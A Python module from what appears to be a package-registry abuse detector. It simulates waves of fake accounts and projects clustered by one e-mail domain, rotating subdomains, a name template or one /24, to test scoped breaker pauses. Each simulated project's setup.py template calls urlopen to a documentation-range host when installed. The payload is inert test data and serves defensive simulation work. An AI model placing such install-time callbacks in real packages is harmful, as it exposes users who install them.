"""Campaign shapes for scoped breaker pauses (issue 16 item 6): waves held by one cohort.

Registries' incident reports describe waves from one provider, one name template or one
IP range; a pause scoped to that cohort stops them without closing the registry. Each
shape here is a wave of fresh accounts that each create a project within the hour, all
carrying one inert payload (documentation IP ranges; nothing is ever run), labelled
``{"campaign": <id>, "kind": <shape>}``:

* ``one-domain``: every account from one freshly made e-mail domain;
* ``subdomain-rotation``: a fresh subdomain of one registrable domain per account;
* ``template-wave``: mixed large providers and addresses, one project-name template
  (``<word>-<token>-<suffix>``);
* ``ip-range``: mixed providers and names, every registration from one /24.

They are not among ``warden simulate``'s default campaigns (which keep their figures);
ask for them with ``--campaigns one-domain,ip-range,...``. The ``typosquat-waves``
campaign (mixed providers, random addresses, names typosquatting many targets) is the
mixed shape, which no cohort holds.
"""

from __future__ import annotations

import string
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from detector.stream.simulate import SimConfig, _World

HOUR = 3600.0
DAY = 86400.0
SHAPE_KINDS = ("one-domain", "subdomain-rotation", "template-wave", "ip-range")
_LARGE = ("gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "qq.com", "icloud.com")
_PAYLOAD = '''from setuptools import setup
import urllib.request
urllib.request.urlopen("http://198.51.100.{octet}/{token}")
setup(name="{name}", version="{version}", packages=[])
'''


def _token(world: _World, n: int) -> str:
    return "".join(world.rng.choice(string.ascii_lowercase) for _ in range(n))


def _wave(world: _World, cfg: SimConfig, cid: str, day: float, kind: str) -> None:
    from detector.stream.simulate import _BROWSERS, _WORDS

    rng = world.rng
    label = {"campaign": cid, "kind": kind}
    n = max(40, int(rng.randint(80, 160) * cfg.scale))
    t0 = world.start + day * DAY + rng.uniform(8, 20) * HOUR
    span = rng.uniform(2, 4) * HOUR
    base = f"{_token(world, 6)}{rng.choice(['mail', 'box', 'post', 'relay'])}." \
           f"{rng.choice(['com', 'net', 'org', 'io'])}"
    net = f"{rng.randint(11, 190)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}"
    token, suffix = _token(world, 5), rng.choice(["sdk", "utils", "helper", "client", "hook"])
    version = f"{rng.randint(0, 2)}.{rng.randint(0, 9)}.{rng.randint(1, 9)}"
    octet, payload_token = rng.randint(1, 254), _token(world, 10)
    ua = rng.choice(_BROWSERS)
    for i in range(n):
        user = world.username() if rng.random() < 0.5 else \
            f"{rng.choice(_WORDS)}{_token(world, 3)}{rng.randint(10, 999)}"
        world.usernames.add(user)
        ts = t0 + span * i / n + rng.uniform(0, 60)
        domain = rng.choice(_LARGE)
        ip = world.ip()
        if kind == "one-domain":
            domain = base
        elif kind == "subdomain-rotation":
            domain = f"{_token(world, 7)}.{base}"
        elif kind == "ip-range":
            ip = f"{net}.{rng.randint(2, 250)}"
        account: dict[str, Any] = {"username": user, "email": f"{user}@{domain}",
                                   "ip": ip, "user_agent": ua}
        world.emit(ts, {"type": "account.created", "account": account}, dict(label))
        if kind == "template-wave":
            name = f"{rng.choice(_WORDS)}{rng.randint(1, 99)}-{token}-{suffix}"
        else:
            name = f"{rng.choice(_WORDS)}{rng.choice(['', '-', '_'])}{rng.choice(_WORDS)}" \
                   f"{rng.randint(2, 999)}"
        if name in world.names:
            continue
        world.names.add(name)
        files = {"setup.py": _PAYLOAD.format(name=name, version=version, octet=octet,
                                             token=payload_token)}
        world.emit(ts + rng.uniform(2, 40) * 60,
                   {"type": "project.created", "account": {"username": user, "ip": ip},
                    "project": {"name": name, "version": version, "files": files}},
                   dict(label))


def _maker(kind: str) -> Any:
    def make(world: _World, cfg: SimConfig, cid: str, day: float) -> None:
        _wave(world, cfg, cid, day, kind)
    return make


# kind -> (maker, days it lasts), as ``detector.stream.simulate._MAKERS``.
SHAPE_MAKERS: dict[str, tuple[Any, float]] = {kind: (_maker(kind), 1.0) for kind in SHAPE_KINDS}
